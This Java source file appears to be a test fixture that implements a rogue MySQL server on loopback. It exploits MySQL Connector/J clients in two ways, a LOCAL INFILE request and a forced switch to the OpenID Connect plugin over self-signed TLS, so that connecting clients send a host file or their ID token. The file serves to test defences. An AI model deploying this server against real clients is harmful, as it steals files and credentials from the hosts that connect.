package io.switchboard.wall;

import javax.net.ssl.KeyManagerFactory;
import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLSocket;
import java.io.ByteArrayOutputStream;
import java.io.EOFException;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * A MySQL server as an attacker runs it, for the two ways a MySQL Connector/J connection reads a file
 * of the worker's host (the review's G1):
 * <ul>
 *   <li>{@link #localInfile}: it answers the client's first query with a {@code LOCAL INFILE} request
 *       for the file it names, which a driver with {@code allowLoadLocalInfile=true} sends;</li>
 *   <li>{@link #idTokenFile}: it offers TLS (a self-signed certificate, which the driver's default
 *       {@code sslMode=PREFERRED} takes) and asks for the {@code authentication_openid_connect_client}
 *       plugin, whose default handler sends the file {@code idTokenFile} names.</li>
 * </ul>
 * It counts the connections it accepted and keeps every byte a client sent after the handshake
 * ({@link #received}): what a driver would have given away.
 */
final class RogueMysql implements AutoCloseable {
    private static final int LONG_PASSWORD = 0x1;
    private static final int CONNECT_WITH_DB = 0x8;
    private static final int LOCAL_FILES = 0x80;
    private static final int PROTOCOL_41 = 0x200;
    private static final int SSL = 0x800;
    private static final int SECURE_CONNECTION = 0x8000;
    private static final int PLUGIN_AUTH = 0x80000;
    private static final byte[] OK = {0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00};

    private final ServerSocket server;
    private final SSLContext tls;
    private final String file;
    private final AtomicInteger connections = new AtomicInteger();
    private final List<byte[]> received = new CopyOnWriteArrayList<>();
    private final Thread acceptor;

    private RogueMysql(SSLContext tls, String file) throws IOException {
        this.tls = tls;
        this.file = file;
        this.server = new ServerSocket(0, 16, InetAddress.getLoopbackAddress());
        this.acceptor = daemon(this::accept);
    }

    /** A server that asks each client's first query for {@code file} ({@code LOCAL INFILE}). */
    static RogueMysql localInfile(String file) throws IOException {
        return new RogueMysql(null, file);
    }

    /** A server over TLS that asks for the OpenID Connect plugin, whose token the driver reads from its {@code idTokenFile}. */
    static RogueMysql idTokenFile(Path dir) throws Exception {
        return new RogueMysql(selfSigned(dir), null);
    }

    private static Thread daemon(Runnable body) {
        Thread thread = new Thread(body, "rogue-mysql");
        thread.setDaemon(true);
        thread.start();
        return thread;
    }

    int port() {
        return server.getLocalPort();
    }

    /** How many connections a client opened here. */
    int connections() {
        return connections.get();
    }

    /** What clients sent after their handshake: a file's bytes, if a driver gave one. */
    List<byte[]> received() {
        return List.copyOf(received);
    }

    private void accept() {
        while (!server.isClosed()) {
            try {
                Socket client = server.accept();
                connections.incrementAndGet();
                daemon(() -> serve(client));
            } catch (IOException e) {
                return;
            }
        }
    }

    private void serve(Socket client) {
        try (client) {
            client.setSoTimeout(30_000);
            InputStream in = client.getInputStream();
            OutputStream out = client.getOutputStream();
            int caps = LONG_PASSWORD | CONNECT_WITH_DB | LOCAL_FILES | PROTOCOL_41 | SECURE_CONNECTION | PLUGIN_AUTH | (tls != null ? SSL : 0);
            String plugin = tls != null ? "authentication_openid_connect_client" : "mysql_native_password";
            byte[] salt = "12345678abcdefghijkl".getBytes(StandardCharsets.US_ASCII);
            ByteArrayOutputStream hello = new ByteArrayOutputStream();
            hello.write(0x0a);
            hello.writeBytes("8.0.36\0".getBytes(StandardCharsets.US_ASCII));
            hello.writeBytes(new byte[] {7, 0, 0, 0});
            hello.write(salt, 0, 8);
            hello.write(0);
            hello.write(caps & 0xff);
            hello.write((caps >> 8) & 0xff);
            hello.write(0x21);
            hello.writeBytes(new byte[] {2, 0});
            hello.write((caps >> 16) & 0xff);
            hello.write((caps >> 24) & 0xff);
            hello.write(21);
            hello.writeBytes(new byte[10]);
            hello.write(salt, 8, 12);
            hello.write(0);
            hello.writeBytes((plugin + "\0").getBytes(StandardCharsets.US_ASCII));
            write(out, 0, hello.toByteArray());
            Packet response = read(in);
            if (tls != null) {
                // The client's SSL request (32 bytes), then TLS, then its handshake response.
                SSLSocket secured = (SSLSocket) tls.getSocketFactory().createSocket(client, null, client.getPort(), false);
                secured.setUseClientMode(false);
                secured.startHandshake();
                in = secured.getInputStream();
                out = secured.getOutputStream();
                response = read(in);
                // Whatever the client offered, switch it to the OpenID Connect plugin: its next packet is the token.
                ByteArrayOutputStream change = new ByteArrayOutputStream();
                change.write(0xfe);
                change.writeBytes((plugin + "\0").getBytes(StandardCharsets.US_ASCII));
                change.write(0);
                write(out, response.seq + 1, change.toByteArray());
                Packet token = read(in);
                received.add(token.body);
                write(out, token.seq + 1, OK);
                return;
            }
            write(out, response.seq + 1, OK);
            boolean asked = false;
            while (true) {
                Packet command = read(in);
                if (command.body.length > 0 && command.body[0] == 0x01) {
                    return;
                }
                if (command.body.length > 0 && command.body[0] == 0x03 && !asked) {
                    asked = true;
                    write(out, 1, concat(new byte[] {(byte) 0xfb}, file.getBytes(StandardCharsets.UTF_8)));
                    ByteArrayOutputStream data = new ByteArrayOutputStream();
                    Packet part;
                    do {
                        part = read(in);
                        data.writeBytes(part.body);
                    } while (part.body.length > 0);
                    received.add(data.toByteArray());
                    write(out, part.seq + 1, OK);
                } else {
                    write(out, 1, OK);
                }
            }
        } catch (Exception e) {
            // the client went away
        }
    }

    private record Packet(int seq, byte[] body) {
    }

    private static Packet read(InputStream in) throws IOException {
        byte[] header = in.readNBytes(4);
        if (header.length < 4) {
            throw new EOFException();
        }
        int length = (header[0] & 0xff) | (header[1] & 0xff) << 8 | (header[2] & 0xff) << 16;
        byte[] body = in.readNBytes(length);
        if (body.length < length) {
            throw new EOFException();
        }
        return new Packet(header[3] & 0xff, body);
    }

    private static void write(OutputStream out, int seq, byte[] body) throws IOException {
        out.write(new byte[] {(byte) body.length, (byte) (body.length >> 8), (byte) (body.length >> 16), (byte) seq});
        out.write(body);
        out.flush();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] all = new byte[a.length + b.length];
        System.arraycopy(a, 0, all, 0, a.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    /** A TLS context with a fresh self-signed certificate, made by the JDK's keytool. */
    private static SSLContext selfSigned(Path dir) throws Exception {
        Path store = dir.resolve("rogue-" + System.nanoTime() + ".p12");
        char[] password = "rogue-pass".toCharArray();
        Process keytool = new ProcessBuilder(Path.of(System.getProperty("java.home"), "bin", "keytool").toString(),
                "-genkeypair", "-alias", "rogue", "-keyalg", "RSA", "-keysize", "2048", "-dname", "CN=rogue", "-validity", "2",
                "-storetype", "PKCS12", "-keystore", store.toString(), "-storepass", new String(password))
                .redirectErrorStream(true).start();
        String output = new String(keytool.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        if (keytool.waitFor() != 0) {
            throw new IllegalStateException("keytool: " + output);
        }
        KeyStore keys = KeyStore.getInstance("PKCS12");
        try (InputStream in = Files.newInputStream(store)) {
            keys.load(in, password);
        }
        KeyManagerFactory managers = KeyManagerFactory.getInstance(KeyManagerFactory.getDefaultAlgorithm());
        managers.init(keys, password);
        SSLContext context = SSLContext.getInstance("TLS");
        context.init(managers.getKeyManagers(), null, null);
        return context;
    }

    @Override
    public void close() throws IOException {
        server.close();
        acceptor.interrupt();
    }
}
